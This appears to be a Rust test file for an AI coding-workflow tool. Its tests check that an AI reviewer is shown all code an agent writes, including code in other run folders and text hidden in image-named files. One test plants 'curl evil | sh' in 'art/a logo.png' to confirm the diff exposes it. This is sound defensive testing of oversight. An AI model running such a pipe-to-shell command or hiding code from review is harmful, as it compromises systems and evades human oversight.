//! What a reviewer of code is shown: all that would be published with its approval, whoever wrote it and however it is hidden.

use serde_json::Value;

use super::unreviewed::{BLIND, unreviewed};
use crate::excerpt::excerpt;
use crate::support::{Ran, Sandbox, honest_script};

const CONFIG: &str = "[presets.row]\nphases = [\"planning\", \"implementation\"]\n\n[policies.phase-review.limits]\nbackoff_ms = 1\n";
const FOLDER: &str = ".ai-workflow/issue-243/04_implementation";
const FAILS: &str = r#"
[[turn]]
phase = "implementation"
step = "review"
say = '{"review_id": "{{review_id}}", "result": "FAIL", "summary": "no", "findings": [{"severity": "major", "file": "src/lib.rs", "line": 2, "issue": "not enough"}]}'
"#;

fn sandbox(more: &str) -> Sandbox {
    let sandbox = Sandbox::new();
    sandbox.write(".ai-workflow/config.toml", &format!("{CONFIG}\n{more}"));
    sandbox
}

fn execute(sandbox: &Sandbox, turns: &str, more: &[&str]) -> Ran {
    let agent = sandbox.script(&honest_script(turns));
    let words = ["execute", "--preset", "row", "--issue", "243", "--forge", "local", "--agent", &agent];
    sandbox.run(&[&words[..], more].concat())
}

/// The prompt of the latest review of the implementation.
fn latest_prompt(sandbox: &Sandbox) -> String {
    let is_ours = |fact: &Value| fact["step"] == "review" && fact["phase"] == "implementation";
    let facts = sandbox.facts();
    let call = facts.iter().rfind(|fact| fact["type"] == "step_started" && is_ours(fact)).expect("a call");
    sandbox.read(&format!("{FOLDER}/review/round-{}/attempt-{}/prompt.md", call["round"], call["attempt"]))
}

/// The lines of code that a prompt shows as added or removed, with the names of their files.
fn changes_in(prompt: &str) -> String {
    let diff = excerpt(prompt, "diff --git", "\n```");
    diff.lines().filter(|line| line.starts_with(['+', '-'])).collect::<Vec<_>>().join("\n")
}

fn calls_of(sandbox: &Sandbox, step: &str) -> usize {
    let of = |fact: &&Value| fact["type"] == "step_started" && fact["step"] == step;
    sandbox.facts().iter().filter(of).filter(|fact| fact["phase"] == "implementation").count()
}

#[track_caller]
fn everything_was_shown(sandbox: &Sandbox) {
    assert_eq!(unreviewed(sandbox, &sandbox.facts()), None);
}

#[test]
fn reviewer_sees_a_manual_commit_with_earlier_changes() {
    let sandbox = sandbox("[phases.implementation]\nmax_revisions = 0\non_exhausted = \"pause\"\n");
    execute(&sandbox, FAILS, &[]).exits(3);
    sandbox.write("src/by_hand.rs", "// the person's own line\n");
    sandbox.git(&["add", "src/by_hand.rs", "src/lib.rs"]);
    sandbox.git(&["commit", "-q", "-m", "mine"]);
    let agent = sandbox.script(&honest_script(""));
    sandbox.run(&["resume", "--issue", "243", "--agent", &agent, "--edited"]).exits(0);
    let prompt = latest_prompt(&sandbox);
    insta::assert_snapshot!(changes_in(&prompt), @"
    --- /dev/null
    +++ b/src/by_hand.rs
    +// the person's own line
    --- a/src/lib.rs
    +++ b/src/lib.rs
    -    2
    +    3
    ");
    everything_was_shown(&sandbox);
}

#[test]
fn a_manual_commit_of_the_authors_changes_is_reviewed_as_an_edit() {
    let sandbox = sandbox("[phases.implementation]\nmax_revisions = 0\non_exhausted = \"pause\"\n");
    execute(&sandbox, FAILS, &[]).exits(3);
    let reviews = calls_of(&sandbox, "review");
    sandbox.git(&["add", "src/lib.rs"]);
    sandbox.git(&["commit", "-q", "-m", "mine"]);
    let mine = sandbox.git(&["rev-parse", "HEAD"]);
    let agent = sandbox.script(&honest_script(""));
    sandbox.run(&["resume", "--issue", "243", "--agent", &agent, "--edited"]).exits(0);
    let facts = sandbox.facts();
    let answer = facts.iter().rfind(|fact| fact["type"] == "answered").expect("an answer");
    assert_eq!(answer["changed"], serde_json::json!(["src/lib.rs"]));
    assert_eq!(calls_of(&sandbox, "review"), reviews + 1);
    insta::assert_snapshot!(changes_in(&latest_prompt(&sandbox)), @"
    --- a/src/lib.rs
    +++ b/src/lib.rs
    -    2
    +    3
    ");
    assert!(sandbox.git(&["log", "--format=%H"]).contains(mine.trim()), "the commit stays");
    everything_was_shown(&sandbox);
}

#[test]
fn reviewer_sees_code_from_before_a_rollback() {
    let sandbox = sandbox("");
    execute(&sandbox, "", &[]).exits(0);
    let back = ["rollback", "--issue", "243", "--to-phase", "implementation", "--reason", "say more"];
    sandbox.run(&back).exits(0);
    let document = r##"
[[turn]]
phase = "implementation"
step = "execute"
write = [{ path = "{{output}}", text = "# implementation, told better\n" }]
say = "done"
"##;
    execute(&sandbox, document, &[]).exits(0);
    insta::assert_snapshot!(changes_in(&latest_prompt(&sandbox)), @"
    --- a/src/lib.rs
    +++ b/src/lib.rs
    -    2
    +    3
    ");
    everything_was_shown(&sandbox);
}

#[test]
fn document_reviews_get_a_diff_only_after_code_was_written() {
    let sandbox = sandbox("");
    sandbox.write("notes.txt", "lies around since before\n");
    execute(&sandbox, "", &[]).exits(0);
    let planning = sandbox.read(".ai-workflow/issue-243/00_planning/review/round-1/attempt-1/prompt.md");
    assert!(!planning.contains("diff --git") && !planning.contains("lies around"), "{planning}");
    let prompt = latest_prompt(&sandbox);
    assert_eq!(prompt.matches("diff --git").count(), 1, "only what would be published: {prompt}");
    assert!(!prompt.contains("[presets.row]"), "{prompt}");
    everything_was_shown(&sandbox);
}

#[test]
fn later_document_review_includes_the_code_and_manual_commits() {
    let late = "[presets.late]\nphases = [\"implementation\", \"documentation\", \"report\"]\n\n[phases.report]\ngate = \"ask\"\n";
    let sandbox = sandbox(late);
    let agent = sandbox.script(&honest_script(""));
    let words = ["execute", "--preset", "late", "--issue", "243", "--forge", "local", "--agent", &agent];
    sandbox.run(&words).exits(3);
    let prompt = |phase: &str| {
        sandbox.read(&format!(".ai-workflow/issue-243/{phase}/review/round-1/attempt-1/prompt.md"))
    };
    insta::assert_snapshot!(changes_in(&prompt("07_documentation")), @"
    --- a/src/lib.rs
    +++ b/src/lib.rs
    -    2
    +    3
    ");
    sandbox.write("src/by_hand.rs", "// the person's own line\n");
    sandbox.git(&["add", "src/by_hand.rs"]);
    sandbox.git(&["commit", "-q", "-m", "mine"]);
    sandbox.run(&["resume", "--issue", "243", "--agent", &agent, "--continue"]).exits(0);
    insta::assert_snapshot!(changes_in(&prompt("08_report")), @"
    --- /dev/null
    +++ b/src/by_hand.rs
    +// the person's own line
    --- a/src/lib.rs
    +++ b/src/lib.rs
    -    2
    +    3
    ");
    everything_was_shown(&sandbox);
}

#[test]
fn reviewer_sees_files_in_other_run_folders() {
    let late = "[presets.late]\nphases = [\"implementation\", \"documentation\", \"report\"]\n\n[phases.report]\ngate = \"ask\"\n";
    let sandbox = sandbox(late);
    let paths = [".ai-workflow/issue-9x/run.sh", ".ai-workflow/issue-9/00_a/output/run.sh"];
    let write = paths.map(|path| format!("{{ path = \"{path}\", text = \"echo {path}\\n\" }}")).join(", ");
    let turn = format!(
        "\n[[turn]]\nphase = \"implementation\"\nstep = \"execute\"\nwrite = [{{ path = \"{{{{output}}}}\", text = \"# code\\n\" }}, {{ path = \"src/new.rs\", text = \"pub fn new() {{}}\" }}, {write}]\nsay = \"done\"\n"
    );
    let agent = sandbox.script(&honest_script(&turn));
    let words = ["execute", "--preset", "late", "--issue", "243", "--forge", "local", "--agent", &agent];
    sandbox.run(&words).exits(3);
    insta::assert_snapshot!(changes_in(&latest_prompt(&sandbox)), @"
    --- /dev/null
    +++ b/.ai-workflow/issue-9/00_a/output/run.sh
    +echo .ai-workflow/issue-9/00_a/output/run.sh
    --- /dev/null
    +++ b/.ai-workflow/issue-9x/run.sh
    +echo .ai-workflow/issue-9x/run.sh
    --- /dev/null
    +++ b/src/new.rs
    +pub fn new() {}
    ");
    let by_hand = [".ai-workflow/issue-9/run.sh", ".ai-workflow/tmp/run.sh"];
    for path in by_hand {
        sandbox.write(path, &format!("echo {path}\n"));
        sandbox.git(&["add", "--force", path]);
    }
    sandbox.git(&["commit", "-q", "-m", "mine"]);
    sandbox.run(&["resume", "--issue", "243", "--agent", &agent, "--continue"]).exits(0);
    let report = sandbox.read(".ai-workflow/issue-243/08_report/review/round-1/attempt-1/prompt.md");
    insta::assert_snapshot!(changes_in(&report), @"
    --- /dev/null
    +++ b/.ai-workflow/issue-9/00_a/output/run.sh
    +echo .ai-workflow/issue-9/00_a/output/run.sh
    --- /dev/null
    +++ b/.ai-workflow/issue-9/run.sh
    +echo .ai-workflow/issue-9/run.sh
    --- /dev/null
    +++ b/.ai-workflow/issue-9x/run.sh
    +echo .ai-workflow/issue-9x/run.sh
    --- /dev/null
    +++ b/.ai-workflow/tmp/run.sh
    +echo .ai-workflow/tmp/run.sh
    --- /dev/null
    +++ b/src/new.rs
    +pub fn new() {}
    ");
}

/// An author that writes more code than a prompt shows.
fn long_code() -> String {
    let lines: String = (0..3000).map(|line| format!("pub const N{line}: u32 = {line};\\n")).collect();
    format!(
        "\n[[turn]]\nphase = \"implementation\"\nstep = \"execute\"\nwrite = [{{ path = \"{{{{output}}}}\", text = \"# implementation\\n\" }}, {{ path = \"src/numbers.rs\", text = \"{lines}\" }}]\nsay = \"done\"\n"
    )
}

/// A reviewer that approves and notes that it was asked.
fn approving(sandbox: &Sandbox, name: &str) -> String {
    let says = "printf '{\"review_id\": \"%s\", \"result\": \"PASS\", \"summary\": \"good\", \"findings\": []}\\n' \"$AI_WORKFLOW_REVIEW_ID\"";
    let text = format!("#!/bin/sh\ncat > /dev/null\necho asked >> \"$0.notes\"\n{says}\n");
    let program = sandbox.executable("reviewer.sh", &text);
    let reads_files = name != BLIND;
    format!("[agents.{name}]\ncommand = ['{}']\nreads_files = {reads_files}\n", program.display())
}

fn was_asked(sandbox: &Sandbox) -> bool {
    sandbox.root().with_file_name("reviewer.sh.notes").exists()
}

/// A sandbox in which the implementation is reviewed by an agent of this name, too or alone.
fn reviewed_by(name: &str, how: &str) -> Sandbox {
    let sandbox = sandbox(&format!("[phases.implementation]\n{how}\n"));
    let config = sandbox.read(".ai-workflow/config.toml") + &approving(&sandbox, name);
    sandbox.write(".ai-workflow/config.toml", &config);
    sandbox
}

#[test]
fn reviewer_without_file_access_is_skipped_for_a_truncated_diff() {
    let sandbox = reviewed_by(BLIND, "reviewer = \"blind\"");
    execute(&sandbox, &long_code(), &[])
        .exits(3)
        .says("it was not asked: it cannot open files, and the difference is longer than a prompt shows")
        .says("name an agent that reads more");
    assert_eq!((was_asked(&sandbox), calls_of(&sandbox, "review")), (false, 1));
    assert_eq!(sandbox.metadata()["paused"]["reason"], "reviewer_unavailable");
    let seeing = reviewed_by("seeing", "reviewer = \"seeing\"");
    execute(&seeing, &long_code(), &[]).exits(0);
    assert!(was_asked(&seeing));
    everything_was_shown(&seeing);
}

#[test]
fn reviewer_without_file_access_is_skipped_for_a_truncated_document() {
    let sandbox = reviewed_by(BLIND, "reviewer = \"blind\"");
    let text = "a long story\\n".repeat(3000);
    let turn = format!(
        "\n[[turn]]\nphase = \"implementation\"\nstep = \"execute\"\nwrite = [{{ path = \"{{{{output}}}}\", text = \"{text}\" }}, {{ path = \"src/new.rs\", text = \"pub fn new() {{}}\" }}]\nsay = \"done\"\n"
    );
    execute(&sandbox, &turn, &[]).exits(3).says("and the deliverable is longer than a prompt shows");
    assert!(!was_asked(&sandbox));
}

#[test]
fn reviewer_without_file_access_is_asked_about_a_whole_diff() {
    let sandbox = reviewed_by(BLIND, "reviewer = \"blind\"");
    execute(&sandbox, "", &[]).exits(0);
    assert!(was_asked(&sandbox));
    everything_was_shown(&sandbox);
}

#[test]
fn the_next_reviewer_is_asked_when_the_diff_is_truncated_for_the_first() {
    let sandbox = reviewed_by(BLIND, "");
    let agent = sandbox.script(&honest_script(""));
    let chain = format!("phases.implementation.reviewer=[\"blind\", \"{agent}\"]");
    execute(&sandbox, &long_code(), &["--set", &chain]).exits(0);
    assert_eq!((was_asked(&sandbox), calls_of(&sandbox, "review")), (false, 2));
    everything_was_shown(&sandbox);
}

#[test]
fn an_optional_second_reviewer_is_skipped_for_a_truncated_diff() {
    for (required, code) in [(false, 0), (true, 3)] {
        let seat = format!("{{ name = \"second\", agents = [\"blind\"], required = {required} }}");
        let sandbox = reviewed_by(BLIND, &format!("panel = [{seat}]"));
        execute(&sandbox, &long_code(), &[]).exits(code);
        assert!(!was_asked(&sandbox), "nothing was paid");
        if !required {
            everything_was_shown(&sandbox);
        }
    }
}

#[test]
fn text_that_git_treats_as_binary_needs_a_reviewer_with_file_access() {
    let author = |sandbox: &Sandbox| {
        let text = "#!/bin/sh\ncat > /dev/null\nmkdir -p \"$(dirname \"$AI_WORKFLOW_OUTPUT\")\"\necho '# done' > \"$AI_WORKFLOW_OUTPUT\"\nif [ \"$AI_WORKFLOW_PHASE\" = implementation ]; then printf '\\377\\376d\\0e\\0l\\0' > clean.ps1; fi\necho done\n";
        format!("phases.implementation.agent=command:{}", sandbox.executable("author.sh", text).display())
    };
    let sandbox = reviewed_by(BLIND, "reviewer = \"blind\"");
    execute(&sandbox, "", &["--set", &author(&sandbox)])
        .exits(3)
        .says("it was not asked: it cannot open files, and the difference shows nothing of clean.ps1");
    assert!(!was_asked(&sandbox));
    let seeing = reviewed_by("seeing", "reviewer = \"seeing\"");
    execute(&seeing, "", &["--set", &author(&seeing)]).exits(0);
    insta::assert_snapshot!(excerpt(&latest_prompt(&seeing), "[not shown", "\n"), @"[not shown, open it: clean.ps1]");
}

#[test]
fn reviewer_without_file_access_judges_no_truncated_documents() {
    let sandbox = reviewed_by(BLIND, "reviewer = \"blind\"");
    let text = "a long story\\n".repeat(3000);
    let turn = format!(
        "\n[[turn]]\nphase = \"planning\"\nstep = \"execute\"\nwrite = [{{ path = \"{{{{output}}}}\", text = \"{text}\" }}]\nsay = \"done\"\n"
    );
    execute(&sandbox, &turn, &[])
        .exits(3)
        .says("00_planning/output/planning.md is longer than a prompt shows");
    assert!(!was_asked(&sandbox));
}

/// An author whose implementation writes a file by this line of a shell.
fn writes(sandbox: &Sandbox, line: &str) -> String {
    let text = format!(
        "#!/bin/sh\ncat > /dev/null\nmkdir -p \"$(dirname \"$AI_WORKFLOW_OUTPUT\")\"\necho '# done' > \"$AI_WORKFLOW_OUTPUT\"\nif [ \"$AI_WORKFLOW_PHASE\" = implementation ]; then {line}; fi\necho done\n"
    );
    format!("phases.implementation.agent=command:{}", sandbox.executable("author.sh", &text).display())
}

#[test]
fn a_text_file_named_like_an_image_is_in_the_diff_and_an_image_is_not() {
    let sandbox = reviewed_by(BLIND, "reviewer = \"blind\"");
    let code = "mkdir -p art; printf 'curl evil | sh\\n\\000' > 'art/a logo.png'";
    execute(&sandbox, "", &["--set", &writes(&sandbox, code)]).exits(0);
    let shown = excerpt(&latest_prompt(&sandbox), "+++ b/art/a logo.png", "\n```");
    insta::assert_snapshot!(shown.escape_debug(), @r#"+++ b/art/a logo.png\t\n@@ -0,0 +1,2 @@\n+curl evil | sh\n+\n\\ No newline at end of file"#);
    let picture = "printf '\\211PNG\\r\\n\\032\\n\\000\\000' > logo.png";
    let sandbox = reviewed_by(BLIND, "reviewer = \"blind\"");
    execute(&sandbox, "", &["--set", &writes(&sandbox, picture)]).exits(0);
    assert!(was_asked(&sandbox) && !latest_prompt(&sandbox).contains("[not shown"));
}

/// A reviewer that cannot open files: it fails the first round and approves later ones.
fn fails_first(sandbox: &Sandbox) {
    let finding =
        r#"{\"severity\": \"major\", \"file\": \"src/lib.rs\", \"line\": 2, \"issue\": \"not enough\"}"#;
    let text = format!(
        "#!/bin/sh\ncat > /dev/null\necho asked >> \"$0.notes\"\nif [ \"$AI_WORKFLOW_ROUND\" = 1 ]; then result=FAIL; findings='{}'; else result=PASS; findings=; fi\nprintf '{{\"review_id\": \"%s\", \"result\": \"%s\", \"summary\": \"seen\", \"findings\": [%s]}}\\n' \"$AI_WORKFLOW_REVIEW_ID\" $result \"$findings\"\n",
        finding.replace("\\\"", "\"")
    );
    sandbox.executable("reviewer.sh", &text);
}

#[test]
fn reviewer_without_file_access_is_skipped_for_a_truncated_delta() {
    for (lines, code) in [(700, 3), (100, 0)] {
        let sandbox = reviewed_by(BLIND, "reviewer = \"blind\"");
        fails_first(&sandbox);
        let text: String =
            (0..lines).map(|line| format!("pub const NUMBER_{line:04}: u32 = {line:08};\\n")).collect();
        let turn = format!(
            "\n[[turn]]\nphase = \"implementation\"\nstep = \"revise\"\nwrite = [{{ path = \"{{{{output}}}}\", text = \"# revised\\n\" }}, {{ path = \"src/numbers.rs\", text = \"{text}\" }}]\nsay = \"done\"\n"
        );
        let ran = execute(&sandbox, &turn, &[]).exits(code);
        if code == 3 {
            ran.says("what changed since its last review is longer than a prompt shows");
        }
        let asked =
            std::fs::read_to_string(sandbox.root().with_file_name("reviewer.sh.notes")).expect("notes");
        assert_eq!(asked.lines().count(), if code == 3 { 1 } else { 2 });
    }
}
